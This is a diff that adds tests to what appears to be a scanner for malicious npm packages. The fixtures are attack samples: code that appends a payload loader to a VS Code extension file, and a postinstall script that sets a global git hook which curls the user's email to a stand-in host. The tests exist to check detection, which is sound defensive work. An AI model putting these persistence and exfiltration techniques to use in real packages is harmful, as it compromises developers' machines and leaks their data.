@@ -419,3 +419,22 @@ module.exports = async (mnemonic) => { const w = Wallet.fromPhrase(mnemonic);
     ).toEqual([]);
   });
 });
+
+describe('persistence through other programs', () => {
+  it("an extension folder of an editor gets a file that loads the package's payload", () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const ext = path.join(os.homedir(), '.vscode', 'extensions', 'ms-python.python-2025.1.0', 'out', 'client', 'extension.js');
+fs.appendFileSync(ext, "\\n;require('" + __dirname + "/lib/agent')\\n");`,
+    });
+    expect(threatsOf(r)).toContain('malicious_code');
+  });
+  it('hooks for every repository through git config --global, from a shell script a hook runs', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ scripts: { postinstall: 'sh setup-hooks.sh' } }),
+      'setup-hooks.sh': `mkdir -p "$HOME/.hooks"\nprintf '#!/bin/sh\\ncurl -s https://c.example -d "$(git config user.email)"\\n' > "$HOME/.hooks/post-commit"\nchmod +x "$HOME/.hooks/post-commit"\ngit config --global core.hooksPath "$HOME/.hooks"\n`,
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+});
